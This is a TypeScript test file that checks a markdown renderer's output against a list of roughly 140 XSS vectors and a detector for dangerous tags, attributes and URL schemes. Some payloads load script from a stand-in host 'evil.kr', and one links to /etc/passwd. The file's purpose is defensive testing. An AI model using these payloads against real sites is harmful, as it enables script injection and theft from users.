import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { renderMarkdown } from "../../src/markdown/render-markdown";
import { elements, html, page, unbalanced } from "./page";

const VECTORS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.kr/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<script/src=//evil.kr></script>",
  "<<script>alert(1)//<</script>",
  "a <script>alert(1)</script> b",
  "<img src=x onerror=alert(1)>",
  "<img src=x OnErRoR='alert(1)'>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=x\nonerror=alert(1)\n>",
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  "<img src='x' alt='\"><script>alert(1)</script>'>",
  '<img src="x" alt="a" onerror="alert(1)" title="<img src=x onerror=alert(1)>">',
  "<img src=javascript:alert(1)>",
  '<img src="jav\tascript:alert(1)">',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src=" &#14; javascript:alert(1)">',
  "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
  '<img srcset="javascript:alert(1) 2x" src=x>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  "<a href=javascript:alert(1)>x</a>",
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://a.kr/1">x</a>',
  "<a href='x' style='background:url(javascript:alert(1))'>x</a>",
  "<a href='x' onclick='alert(1)' onmouseover=alert(1)>x</a>",
  "<a xlink:href='javascript:alert(1)'>x</a>",
  "<a href='x' ping='//evil.kr' formaction='javascript:alert(1)'>x</a>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<math href='javascript:alert(1)'>x</math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
  "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)><option>x</select>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<keygen autofocus onfocus=alert(1)>",
  "<body onload=alert(1)>",
  "<html onmouseover=alert(1)>",
  "<base href=//evil.kr/>",
  "<link rel=stylesheet href=javascript:alert(1)>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<style>@import 'javascript:alert(1)';</style>",
  "<div style='width:expression(alert(1))'>x</div>",
  "<div style=\"background-image:url('javascript:alert(1)')\">x</div>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1) src=x></video>",
  "<video src=javascript:alert(1) poster=javascript:alert(1) onloadstart=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<title><img src=x onerror=alert(1)></title>",
  "<template><img src=x onerror=alert(1)></template>",
  "<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>",
  "<frameset onload=alert(1)>",
  "<x onclick=alert(1)>x</x>",
  "<a/onclick=alert(1)>x</a>",
  "<isindex action=javascript:alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "a <!-- x --!> <img src=x onerror=alert(1)> -->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml <img src=x onerror=alert(1)> ?>",
  "<!DOCTYPE x [<!ENTITY a '<script>alert(1)</script>'>]>",
  '<div title="\n\n```js\nlet a = "><img src=x onerror=alert(1)>"\n```\n\n">',
  "<div title='\n\n# <img src=x onerror=alert(1)>\n\n'>",
  '<a title="\n\n- [ ] x "><script>alert(1)</script>',
  "</main></body><script>alert(1)</script>",
  "<p id='x' name='y' __proto__='z' constructor=alert(1)>x</p>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](&#x01;javascript:alert(1))",
  "[x](vbscript:x)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](file:///etc/passwd)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  '![x" onerror="alert(1)](y)',
  '![x](y "a" onerror=alert(1))',
  "![x](y 'a\" onerror=\"alert(1)')",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "javascript:alert(1) http://javascript:alert(1)",
  'https://a.kr/"onmouseover=alert(1)',
  "# <img src=x onerror=alert(1)>",
  '# "onmouseover=alert(1)',
  '```"><script>alert(1)</script>\nx\n```',
  '```js"onmouseover=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  "```html\n<script>alert(1)</script>&lt;img onerror=x&gt;\n```",
  "    </code></pre><script>alert(1)</script>",
  "`<script>alert(1)</script>`",
  "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
  "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
  "- [ ] <img src=x onerror=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<div>&lt;script>alert(1)&lt;/script></div>",
  "\u0000<scr\u0000ipt>alert(1)</script>",
  '```js title="\\"><script>alert(1)</script>" {1}\nx\n```',
  '```js title=\'" onmouseover=alert(1) x="\' showLineNumbers="><b\nx\n```',
  "```js:<img/src=x/onerror=alert(1)>\nx\n```",
  "```diff-js\n+<script>alert(1)</script>\n-</span><img src=x onerror=alert(1)>\n```",
  "```mermaid\n</pre><script>alert(1)</script>\n```",
  "> [!NOTE] <img src=x onerror=alert(1)>\n> x",
  '[[x"><script>alert(1)</script>]]',
  '[[x" onmouseover="alert(1)|<img src=x onerror=alert(1)>]]',
  "[[javascript:alert(1)]]",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\htmlStyle{background:url(//x)}{x}$ $\\htmlData{onclick=alert(1)}{x}$",
  '$\\includegraphics{x" onerror="alert(1)}$',
  "$<script>alert(1)</script>$",
  "$$\n\\text{<img src=x onerror=alert(1)>}\n$$",
  "```math\n</math><script>alert(1)</script>\n```",
  "<math><mi href='javascript:alert(1)'>x</mi></math>",
];

const FORBIDDEN = new Set(
  `base body button embed form frame frameset head html iframe keygen link math meta noscript object
  plaintext script select style svg template textarea title xmp`.split(/\s+/),
);
const ADDRESS =
  /^\s*(?!(?:https?|ftp|mailto|tel):)(?!data:image\/(?:png|jpe?g|gif|webp|avif);)[a-z][a-z\d+.-]*:/i;

function dangers(rendered: string): string[] {
  const { main, isWhole } = page(rendered);
  const found = isWhole ? [] : ["the page around it is broken"];
  for (const element of elements(main)) {
    const { tagName, attrs } = element;
    if (FORBIDDEN.has(tagName) && !isOurs(element)) found.push(`<${tagName}>`);
    for (const { name, value } of attrs) {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers skip controls
      const read = value.replace(/[\u0000-\u0020\u00a0]/g, "");
      if (/^on|^style$|^srcdoc$|:/.test(name) && !/^text-align:[a-z]+$/.test(value))
        found.push(name);
      if (/^(?:href|src|poster|srcset|action|formaction|ping|background)$/.test(name)) {
        if (ADDRESS.test(read)) found.push(`${name}=${value}`);
      }
    }
  }
  return found;
}

/** The one button and the one kind of formula that the renderer itself writes. */
function isOurs({ tagName, attrs }: ReturnType<typeof elements>[number]): boolean {
  const written = attrs.map(({ name, value }) => `${name}=${value}`).join(" ");
  if (tagName === "button") return written === "class=copy type=button data-done=복사함 hidden=";
  return tagName === "math" && (written === "" || written === "display=block");
}

test.each([
  "<button>x</button>",
  "<math href=x>x</math>",
  "<script>x</script>",
  "<img src=x onerror=x>",
  "<a href='java\nscript:x'>x</a>",
  "<p style='color:red'>x</p>",
  "</main>x",
])("the check itself sees %s", (rendered) => expect(dangers(rendered)).not.toEqual([]));

describe("nothing of it runs", () => {
  test.each(VECTORS)("%s", (vector) => {
    for (const body of [
      vector,
      `글 ${vector} 글`,
      `> - ${vector}`,
      `<div>\n${vector}\n</div>`,
      `${vector}\n\n## 내일`,
    ]) {
      const rendered = html(body);
      expect(dangers(rendered)).toEqual([]);
      expect(unbalanced(rendered)).toBe(null);
    }
  });

  const cut = fc
    .constantFrom(...VECTORS)
    .chain((vector) =>
      fc
        .tuple(fc.nat(vector.length), fc.nat(vector.length))
        .map(([a, b]) => vector.slice(Math.min(a, b), Math.max(a, b))),
    );
  test("nor of any pieces of them", () => {
    fc.assert(
      fc.property(fc.array(cut, { maxLength: 12, size: "max" }), (pieces) => {
        expect(dangers(html(pieces.join("")))).toEqual([]);
      }),
      { numRuns: 5_000 },
    );
  });

  test("all of them in one log", () => {
    const body = VECTORS.join("\n\n");
    const sections = [{ kind: "plan" as const, heading: null, line: 20, endLine: 90 }];
    expect(dangers(renderMarkdown(body, { bodyLine: 1, sections }).html)).toEqual([]);
  });
});
